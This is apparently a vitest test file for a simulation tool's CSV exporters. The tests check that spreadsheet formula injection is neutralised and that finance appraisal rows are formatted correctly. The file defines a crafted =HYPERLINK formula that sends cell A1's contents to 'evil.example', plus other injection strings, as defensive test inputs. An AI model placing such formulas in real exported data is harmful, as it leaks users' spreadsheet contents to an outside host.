// The CSV writers: a text cell a spreadsheet would read as a formula is neutralised; numbers stay numbers.
import { describe, expect, it } from 'vitest';
import { csvCell, runTotalsCsv, toCsv } from '../../../src/engine/results/export';
import { planRun } from '../../../src/engine/results/plan';
import { RunSet, summariseRuns } from '../../../src/engine/results/run-set';
import { simulateBlock } from '../../../src/engine/sim/simulate';
import { loadScenario, SMALL } from '../../helpers/scenarios';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")';

/** A small run's summary with its arms renamed to formulas, and one negative number in a band and a saving. */
function craftedSummary() {
  const small = loadScenario(SMALL);
  const plan = planRun(small, { runs: 3, months: 2 });
  const set = new RunSet(plan);
  set.add(simulateBlock(small, plan, 0, 3));
  const summary = summariseRuns(small, set);
  const names = [HYPERLINK, '@SUM(1)', '+1+2', '-3', '\tTab', '\rCR'];
  summary.arms.forEach((arm, a) => (arm.name = names[a]!));
  summary.arms[0]!.series.cla.mean[0] = -12.5;
  return summary;
}

describe('CSV exports', () => {
  it('prefixes a quote to a text cell starting with =, +, -, @, tab or carriage return, and quotes it per RFC 4180', () => {
    expect(csvCell(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click for details"")"`);
    expect(csvCell('@SUM(1)')).toBe(`'@SUM(1)`);
    expect(csvCell('+1')).toBe(`'+1`);
    expect(csvCell('-1')).toBe(`'-1`);
    expect(csvCell('\tx')).toBe(`'\tx`);
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('No FGC service')).toBe('No FGC service');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('2015/16')).toBe('2015/16');
  });

  it('leaves numbers alone, negative ones included', () => {
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(3.25)).toBe('3.25');
  });

  it('neutralises crafted arm names in the series CSV and the run totals CSV, and keeps negative numbers', () => {
    const summary = craftedSummary();
    const series = toCsv(summary).split('\n');
    expect(series.some((l) => l.startsWith(`"'=HYPERLINK(`))).toBe(true);
    expect(series.some((l) => l.startsWith(`'@SUM(1),`))).toBe(true);
    expect(series).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click for details"")",0,${summary.months[0]},cla,-12.5,${[...['p5', 'p25', 'p50', 'p75', 'p95'].map((k) => summary.arms[0]!.series.cla[k as 'p5'][0])].join(',')},,trial evidence`);
    const totals = runTotalsCsv(summary).split('\n');
    expect(totals.some((l) => l.startsWith(`"'=HYPERLINK(`))).toBe(true);
    expect(totals.some((l) => l.startsWith(`'@SUM(1),`))).toBe(true);
    // Every cell of every row, after the header: none begins with a formula character unless it is a number.
    for (const text of [toCsv(summary), runTotalsCsv(summary)]) {
      for (const line of text.trimEnd().split('\n').slice(1)) {
        const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, ''));
        for (const cell of cells) if (/^[=+\-@\t\r]/.test(cell)) expect(Number.isFinite(Number(cell)), `${cell} in ${line}`).toBe(true);
      }
    }
    // Savings against the first arm are negative in some runs or zero; either way they are printed as plain numbers.
    for (const line of totals.slice(1, -1)) expect(line.split(',').at(-2)).toMatch(/^-?\d+(\.\d+)?$/);
  });

  it('carries the appraisal: cashable and non-cashable savings by year, marked when carried or after the horizon, and the NPVs', () => {
    const small = loadScenario(SMALL);
    const plan = planRun(small, { runs: 4, months: 24, appraisalYears: 5 });
    const set = new RunSet(plan);
    set.add(simulateBlock(small, plan, 0, 4));
    const summary = summariseRuns(small, set);
    const rows = toCsv(summary).trimEnd().split('\n').filter((l) => l.includes(',finance.'));
    const c = summary.finance.comparisons[1]!;
    const arm = `${c.arm},${summary.arms[2]!.coordinatorsFte}`;
    const y0 = c.byYear[0]!;
    expect(rows).toContain(`${arm},${y0.year} (${y0.months} months carried)`.replace(` (${y0.months} months carried)`, y0.carriedMonths ? ` (${y0.carriedMonths} months carried)` : '') + `,finance.cashableSaving,${[y0.cashableSaving.mean, y0.cashableSaving.p5, y0.cashableSaving.p25, y0.cashableSaving.p50, y0.cashableSaving.p75, y0.cashableSaving.p95].map((x) => Math.round(x * 1e6) / 1e6).join(',')},source years,trial evidence`);
    // 24 months from April 2015: 2015/16 (11 months), 2016/17, 2017/18 (1 month simulated, 11 carried), then carried;
    // the appraisal is 5 years, the years after it listed for the NPV over 10.
    expect(rows.some((l) => l.startsWith(`${arm},2017/18 (11 months carried),finance.nonCashableSaving,`))).toBe(true);
    expect(rows.some((l) => l.startsWith(`${arm},2018/19 (12 months carried),finance.net,`))).toBe(true);
    // A cell with a comma in it is quoted (RFC 4180).
    expect(rows.some((l) => l.startsWith(`${arm},"2020/21 (12 months carried, after the horizon)",finance.serviceCost,`))).toBe(true);
    expect(rows.filter((l) => l.startsWith(`${arm},`) && l.includes(',finance.npv,')).map((l) => l.split(',')[2])).toEqual(['5 years', '10 years']);
    expect(rows.some((l) => l.startsWith(`${arm},5 years,finance.cashNpv,`))).toBe(true);
  });
});
